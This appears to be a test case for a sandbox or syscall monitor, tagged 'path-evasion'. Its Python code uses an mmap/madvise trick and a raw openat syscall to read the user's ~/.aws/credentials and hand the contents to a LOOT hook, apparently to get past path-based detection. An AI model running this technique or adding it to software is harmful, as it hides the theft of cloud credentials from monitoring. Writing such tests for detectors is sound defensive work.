#: {"class": "path-evasion", "loader": "script", "include": ["raw"], "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
import mmap
b = (HOME + "/.aws/credentials").encode() + b"\0"; open(TMP + "/n", "wb").write(b.ljust(4096, b"\0")); f = os.open(TMP + "/n", os.O_RDWR)
m = mmap.mmap(f, 4096, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_WRITE); a = ctypes.addressof(ctypes.c_char.from_buffer(m))
m2 = mmap.mmap(f, 4096, mmap.MAP_SHARED); assert _c.madvise(ctypes.c_void_p(a), 4096, 4) == 0
LOOT(os.read(sysc(257, -100, ctypes.c_void_p(a), 0, 0), 999))
